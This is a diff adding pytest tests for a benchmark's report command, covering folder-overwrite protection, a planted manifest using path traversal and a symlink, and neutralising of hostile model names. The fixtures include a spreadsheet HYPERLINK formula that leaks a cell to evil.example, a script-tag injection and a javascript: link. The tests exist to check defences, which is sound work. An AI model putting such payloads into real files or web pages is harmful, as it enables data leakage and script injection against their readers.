@@ -13,6 +13,7 @@ import csv
 import hashlib
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -244,3 +245,113 @@ def test_old_caches_of_failed_requests_are_asked_again(judge_server, tmp_path):
     assert run.returncode == 0 and len(HostileJudge.requests) == 1
     assert [entry["score"] for entry in cache_entries(results)] == [9]
     assert_no_secret(results, run)
+
+
+# ------------------------------------------------------------------------------------------------ the report
+
+HOSTILE_NAMES = {
+    "a": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "b": "<script>alert(1)</script>",
+    "c": "[x](javascript:alert(1)) | @SUM(1+1) ![img](http://evil.example/t.png)",
+}
+
+
+def report_run(root: Path, models: dict[str, float]) -> Path:
+    """One results folder per model, each one single_en_4k row with the given score."""
+    from support import single_row, write_samples
+
+    for model, value in models.items():
+        folder = root / "results" / model
+        write_samples(folder, "needlebench_single_en_4k", [{"doc": single_row(prompt=model), "score": value}])
+        (folder / "results_2025-01-01T00-00-00.000000.json").write_text(json.dumps({
+            "results": {"needlebench_single_en_4k": {"alias": "single_en_4k", "score,none": value}},
+            "config": {"model": "hf", "model_args": f"pretrained={model}"},
+        }), encoding="utf-8")
+    return root / "results"
+
+
+def tree_hashes(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_report_refuses_a_folder_it_did_not_write(tmp_path):
+    results = report_run(tmp_path, {"m": 50.0})
+    out = tmp_path / "mine"
+    out.mkdir()
+    (out / "README.md").write_text("# my notes\n", encoding="utf-8")
+    (out / "scores.csv").write_text("my,own\n1,2\n", encoding="utf-8")
+    before = tree_hashes(out)
+    run = cli("report", str(results), "--out", str(out), "--no-figures")
+    assert run.returncode == 2, run.stderr
+    assert len(run.stderr.strip().splitlines()) == 1 and "would overwrite 'scores.csv'" in run.stderr
+    assert tree_hashes(out) == before
+    (out / "README.md").unlink()
+    (out / "scores.csv").unlink()
+    (out / "notes.txt").write_text("keep me\n", encoding="utf-8")  # no clash, still not the report's folder
+    run = cli("report", str(results), "--out", str(out), "--no-figures")
+    assert run.returncode == 2 and "holds 'notes.txt'" in run.stderr
+    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]
+
+
+def test_report_replaces_only_its_own_earlier_files(tmp_path):
+    results = report_run(tmp_path, {"m": 50.0})
+    out = tmp_path / "report"
+    first = cli("report", str(results), "--out", str(out))
+    assert first.returncode == 0, first.stderr
+    manifest = json.loads((out / ".needlebench-report.json").read_text())
+    figures = sorted(name for name in manifest["files"] if name.endswith(".png"))
+    assert figures and "README.md" in manifest["files"] and "scores.csv" in manifest["files"]
+    (out / "notes.txt").write_text("my notes beside the report\n", encoding="utf-8")
+    second = cli("report", str(results), "--out", str(out), "--no-figures", "--name", f"{results / 'm'}=Renamed")
+    assert second.returncode == 0, second.stderr
+    assert "Renamed" in (out / "scores.csv").read_text()
+    assert not [name for name in figures if (out / name).exists()]  # the first report's figures, not redrawn
+    assert (out / "notes.txt").read_text() == "my notes beside the report\n"  # never listed, never touched
+    assert set(json.loads((out / ".needlebench-report.json").read_text())["files"]) == {
+        p.name for p in out.iterdir() if p.name not in ("notes.txt", ".needlebench-report.json")
+    }
+    (out / "README.md").write_text("# edited by hand\n", encoding="utf-8")
+    before = tree_hashes(out)
+    third = cli("report", str(results), "--out", str(out), "--no-figures")
+    assert third.returncode == 2 and "'README.md', changed since the report wrote it" in third.stderr
+    assert tree_hashes(out) == before
+
+
+def test_a_planted_report_manifest_reaches_nothing_outside(tmp_path):
+    results = report_run(tmp_path, {"m": 50.0})
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n", encoding="utf-8")
+    out = tmp_path / "cloned"
+    out.mkdir()
+    (out / "scores.csv").symlink_to(victim)
+    for files in ({"../victim.txt": None}, {"scores.csv": None}):
+        (out / ".needlebench-report.json").write_text(json.dumps({"tool": "needlebench report", "files": files}))
+        run = cli("report", str(results), "--out", str(out), "--no-figures")
+        assert run.returncode == 2 and len(run.stderr.strip().splitlines()) == 1, run.stderr
+        assert victim.read_text() == "precious\n" and (out / "scores.csv").is_symlink()
+    assert sorted(p.name for p in out.iterdir()) == [".needlebench-report.json", "scores.csv"]
+
+
+def test_hostile_model_names_are_inert_in_csv_markdown_and_html(tmp_path):
+    results = report_run(tmp_path, {"a": -12.5, "b": 40.0, "c": 60.0})
+    names = [f"--name={results / key}={value}" for key, value in HOSTILE_NAMES.items()]
+    out = tmp_path / "report"
+    run = cli("report", str(results), "--out", str(out), "--no-figures", *names)
+    assert run.returncode == 0, run.stderr
+    with (out / "scores.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert "'" + HOSTILE_NAMES["a"] in cells and HOSTILE_NAMES["b"] in cells
+    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]
+    assert "-12.5" in cells  # a negative number stays a number (no quote)
+    for page in ("README.md", "scores.md", "needlebench_4k.md"):
+        text = (out / page).read_text(encoding="utf-8")
+        assert "<script" not in text and not re.search(r"(?<!\\)\]\(", text), page  # no tag, no link or image
+    markdown = (out / "scores.md").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown
+    assert "\\[x\\](javascript:alert(1)) \\| @SUM(1+1) !\\[img\\](http://evil.example/t.png)" in markdown
+    page = (out / "report.html").read_text(encoding="utf-8")
+    assert "<script" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert 'href="javascript:' not in page and "<a " not in page
